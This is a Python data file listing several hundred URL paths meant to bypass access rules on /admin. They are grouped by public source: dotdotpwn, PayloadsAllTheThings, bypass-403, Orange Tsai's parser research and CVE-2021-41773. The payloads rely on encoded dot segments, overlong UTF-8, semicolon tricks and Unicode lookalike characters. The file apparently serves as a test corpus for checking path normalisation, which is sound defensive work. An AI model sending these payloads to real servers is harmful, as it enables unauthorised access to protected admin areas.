"""Targets by which attackers get by access rules on the path /admin, by where they were published."""
from __future__ import annotations

_DOTS = ("..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%c0%2e%c0%2e", "%e0%80%ae%e0%80%ae",
         "%f0%80%80%ae%f0%80%80%ae", "%uff0e%uff0e", "%u002e%u002e", "%ef%bc%8e%ef%bc%8e", "%25c0%25ae%25c0%25ae", "..%00",
         "%e2%80%a4%e2%80%a4", "%e2%80%a5", "..%01", "..%09", "..%20")
_SLASHES = ("/", "%2f", "%2F", "%5c", "\\", "%252f", "%255c", "%c0%af", "%c0%2f", "%c1%9c", "%c0%5c", "%e0%80%af",
            "%f0%80%80%af", "%u2215", "%u2216", "%uff0f", "%ef%bc%8f", "%25c0%25af", "%c1%pc", "%c0%9v", "%e2%88%95", "0x2f")

SOURCES: dict[str, tuple[str, ...]] = {
    # github.com/wireghoul/dotdotpwn and PayloadsAllTheThings, "Directory Traversal": encodings of the dots, of the slash.
    "dotdotpwn: dots": tuple(f"/public/{dots}/admin" for dots in _DOTS),
    "dotdotpwn: slashes": tuple(f"/public/..{slash}admin" for slash in _SLASHES),
    "dotdotpwn: both": tuple(f"/public/{dots}{slash}admin" for dots, slash in zip(_DOTS[5:14], _SLASHES[5:14], strict=True)),
    "dotdotpwn: separators alone": tuple(f"/{slash}admin" for slash in _SLASHES) + tuple(f"/admin{slash}x" for slash in _SLASHES),
    "PayloadsAllTheThings": (
        "/public/..././admin", "/public/....//admin", "/public/...\\.\\admin", "/public/..;/admin", "/public/..;/..;/admin",
        "////////public/../../admin", "/(S(X))/admin", "/admin/(S(X))/x", "/(S(x))/(F(y))/admin", "/(A(X)F(Y))/admin",
        "/ad/(S(x))min/../../admin", "/(S(X))admin/x", "/%28S(X)%29/admin", "/%28S%28X%29%29/admin",
        "/public/%255c%255c..%255c/..%255c/admin", "/public/%%32%65%%32%65/admin",
        "/public/%2e%2e%2f%2e%2e%2fadmin", "/public/..%2f..%2fadmin", "/public/..%5c..%5cadmin"),
    # github.com/iamj0ker/bypass-403 and its many kin.
    "bypass-403": (
        "/%2e/admin", "/admin/.", "//admin//", "/./admin/./", "/admin%20", "/admin%09", "/admin?", "/admin/?anything",
        "/admin#",
        "/admin/", "/admin//", "/admin/*", "/admin..;/", "/;/admin", "/.;/admin", "//;//admin", "/admin;/", "/admin;x=y",
        "/admin;x/y",
        "/admin/..;/", "/admin%2f", "/%2f/admin", "/%2fadmin", "/admin%00", "/admin%0a", "/admin%0d", "/admin%0d%0a",
        "/admin%23",
        "/admin%3f", "/admin%3b", "/admin%26", "/admin/%2e", "/admin/%2e/", "/%20/admin", "/%09/admin", "/admin%20/",
        "/admin%09/x",
        "/admin%a0", "/admin%85", "/admin/x/..", "/admin/x/../y", "/admin/./x", "/.//admin", "/.//./admin", "/./admin",
        "/././admin", "/%61dmin", "/adm%69n", "/%61%64%6d%69%6e", "/%61%64%6D%69%6E/", "/%2561dmin", "/%252561dmin",
        "/admin%2520",
        "/admin%c0%80", "/admin\\", "/\\admin", "\\admin", "/admin%5c", "/public/../admin", "/public/../public/../admin",
        "/public/./../admin", "/public//../admin", "/public///../../admin", "/public/x/../../admin", "/public/..//admin",
        "/public/../%61dmin", "/../admin", "/../../admin", "/..//admin", "//../admin", "/..;/admin", "/..%2fadmin",
        "/x/..;a=b/admin",
        "/x/..;%2fadmin", "/x/%2e%2e;/admin", "/x/..%3b/admin", "/x;/../admin", "/x;a/../../admin", "/x%2f..%2f..%2fadmin"),
    # Orange Tsai: "A New Era of SSRF" (2017), "Breaking Parser Logic" (2018), "Confusion Attacks" (2024), "WorstFit" (2025).
    "Orange Tsai": (
        "/public..;/admin", "/public../admin", "/public/..;/..;/admin/x", "/public;/../admin", "/public/%2e%2e;/admin",
        "/public/.;/../admin", "/public/;/../admin", "//evil/admin", "//evil/../admin", "///evil/admin", "/\\evil/admin",
        "//evil;/admin",
        "/admin%3Fooo.php", "/admin%3F", "/admin%3F/x", "/public/../admin%3Fx", "/admin%23x", "/public%3F/../admin",
        "/public/%3F/../../admin", "/admin%0Ax", "/admin%0D%0A", "/admin%00.html", "/public/..%c2%a5admin", "/%c2%a5admin",
        "/public/..%e2%82%a9admin", "/%e2%82%a9admin", "/public/%ef%bc%8e%ef%bc%8e/admin", "/public/..%ef%bc%bcadmin",
        "/%ef%bc%bcadmin",
        "/public/..%e2%88%96admin", "/public/..%e2%81%84admin", "/%e2%81%84admin", "/public/%ef%b9%92%ef%b9%92/admin",
        "/public/..%ef%b9%a8admin", "/admin%e2%81%84x", "/admin%c2%a5x", "/-/..;/admin", "/public/..%01/admin"),
    # nginx's off-by-slash and merge_slashes, Apache's CVE-2021-41773 and -42013, HAProxy's CVE-2021-40346 is about framing.
    "CVE-2021-41773 and kin": (
        "/icons/.%2e/admin", "/icons/.%2e/%2e%2e/admin", "/icons/.%%32%65/admin", "/cgi-bin/%%32%65%%32%65/admin",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/admin", "/icons/%2e%2e%2fadmin", "/x/..%252fadmin", "/%252e%252e/admin",
        "/public//../../admin",
        "/public/.././/admin", "/%2e%2e//admin", "/public/%2e%2e//./admin"),
    # RFC 9112 3.2.2: targets with a host of their own.
    "absolute targets": (
        "http://h/admin", "http://h//admin", "http://h/x/../admin", "http://h/%61dmin", "http://h/..;/admin", "http://h\\admin",
        "HTTP://h/admin", "https://h/admin", "http://h:80/./admin", "http://evil@h/admin", "ftp://h/admin", "h/admin", "admin",
        "http:///admin", "http://h/admin%2f", "http://h?/admin", "http://h/public/..%5cadmin"),
}

TRICKS: tuple[tuple[str, str], ...] = tuple(dict.fromkeys(
    (source, target) for source, targets in SOURCES.items() for target in targets))
